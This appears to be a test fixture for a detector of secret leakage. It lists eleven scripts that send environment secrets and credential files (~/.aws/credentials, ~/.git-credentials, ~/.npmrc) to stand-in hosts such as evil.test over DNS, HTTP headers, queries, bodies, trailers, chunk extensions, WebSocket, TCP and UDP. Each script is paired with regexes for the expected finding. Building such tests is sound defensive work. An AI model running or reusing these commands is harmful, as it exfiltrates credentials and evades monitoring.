/** Sends a secret over a WebSocket, and says so when it came back. */
const chat = `const socket = new WebSocket("wss://ws.acme.test/")
socket.onopen = () => socket.send(JSON.stringify({ key: process.env.DEPLOY_PASSWORD }))
socket.onmessage = () => { console.log("echoed"); socket.close() }
socket.onclose = socket.onerror = () => process.exit()`

const send = `'${process.execPath}' -e`
const h1Trailers = `const { request } = require("node:https")
const call = request({ host: "h1.acme.test", path: "/upload", method: "POST", headers: { "Transfer-Encoding": "chunked" } })
call.on("error", () => {}).on("response", answer => answer.resume())
call.flushHeaders()
call.addTrailers({ "X-Key": process.env.DEPLOY_PASSWORD })
call.end()`
const h2Trailers = `const { connect } = require("node:http2")
const session = connect("https://api.acme.test").on("error", () => {})
const call = session.request({ ":method": "POST", ":path": "/upload" }, { waitForTrailers: true, endStream: false })
call.on("wantTrailers", () => call.sendTrailers({ "x-key": Buffer.from(process.env.DEPLOY_PASSWORD).toString("hex") }))
call.on("error", () => {}).on("close", () => session.close()).resume().end()`
const chunkExtension = `const { connect } = require("node:tls")
const socket = connect({ host: "h1.acme.test", port: 443, servername: "h1.acme.test" }).on("error", () => {})
socket.setTimeout(3000, () => socket.destroy())
socket.write("POST /upload HTTP/1.1\\r\\nHost: h1.acme.test\\r\\nConnection: close\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
socket.write("0;key=" + process.env.DEPLOY_PASSWORD + "\\r\\n\\r\\n")
socket.resume()`
const overTcp = `const socket = require("node:net").connect(7, "other.acme.test").on("error", () => {})
socket.on("data", () => socket.end())
const text = "key=" + process.env.BACKUP_STORAGE_ACCOUNT_KEY
socket.write(text.slice(0, 20))
setTimeout(() => socket.write(text.slice(20)), 50)`
const overUdp = `const socket = require("node:dgram").createSocket("udp4")
socket.on("message", () => socket.close())
socket.send(Buffer.from(process.env.PROD_AZURE_CLIENT_SECRET).toString("base64"), 5000, "other.acme.test")
setTimeout(() => process.exit(), 2000)`

/** Ways out: the script, how the finding names the place, how it names the encoding. */
export const ways: Readonly<Record<string, { script: string; where: RegExp; how: RegExp; subject: string }>> = {
  'a WebSocket': {
    script: `'${process.execPath}' -e '${chat}'`,
    where: /in the messages of a GET to ws\.acme\.test/,
    how: /credentials/,
    subject: 'DEPLOY_PASSWORD',
  },
  'a DNS question': {
    script: 'dig +tries=1 +time=2 "$(printf %s "$DEPLOY_GITHUB_TOKEN" | xxd -p -c 60 | cut -c1-60).x.evil.test"',
    where: /in a DNS question below evil\.test/,
    how: /\(hex\)/,
    subject: 'DEPLOY_GITHUB_TOKEN',
  },
  'a header': {
    script: 'curl -sS -u "me:$RELEASE_NPM_TOKEN" https://api.acme.test/echo',
    where: /in the head of a GET to api\.acme\.test/,
    how: /\(base64\)/,
    subject: 'RELEASE_NPM_TOKEN',
  },
  'a query': {
    script: 'curl -sS --get --data-urlencode "key=$PROD_AWS_SECRET_ACCESS_KEY" https://api.acme.test/echo',
    where: /in the address of a GET/,
    how: /credentials/,
    subject: 'PROD_AWS_SECRET_ACCESS_KEY',
  },
  'a body of HTTP/2, packed': {
    script: 'cat ~/.aws/credentials ~/.npmrc | gzip | curl -sS --http2 --data-binary @- https://api.acme.test/upload',
    where: /in the body of a POST to api\.acme\.test/,
    how: /\(packed\)/,
    subject: '~/.aws/credentials',
  },
  'a body of HTTP/1, in chunks': {
    script:
      'cat ~/.git-credentials | base64 -w0 | base64 -w0 | curl -sS --http1.1 -H "Transfer-Encoding: chunked" -T - https://h1.acme.test/upload',
    where: /in the body of a PUT to h1\.acme\.test/,
    how: /\(base64 twice\)/,
    subject: '~/.git-credentials',
  },
  'a trailer of HTTP/1': {
    script: `${send} '${h1Trailers}'`,
    where: /in the trailers or chunk extensions of a POST to h1\.acme\.test/,
    how: /credentials/,
    subject: 'DEPLOY_PASSWORD',
  },
  'an extension of a chunk': {
    script: `${send} '${chunkExtension}'`,
    where: /in the trailers or chunk extensions of a POST to h1\.acme\.test/,
    how: /credentials/,
    subject: 'DEPLOY_PASSWORD',
  },
  'a trailer of HTTP/2': {
    script: `${send} '${h2Trailers}'`,
    where: /in the trailers or chunk extensions of a POST to api\.acme\.test/,
    how: /\(hex\)/,
    subject: 'DEPLOY_PASSWORD',
  },
  'a TCP connection': {
    script: `${send} '${overTcp}'`,
    where: /in a TCP connection to other\.acme\.test/,
    how: /credentials/,
    subject: 'BACKUP_STORAGE_ACCOUNT_KEY',
  },
  'a UDP flow': {
    script: `${send} '${overUdp}'`,
    where: /in a UDP flow to other\.acme\.test/,
    how: /\(base64\)/,
    subject: 'PROD_AZURE_CLIENT_SECRET',
  },
}
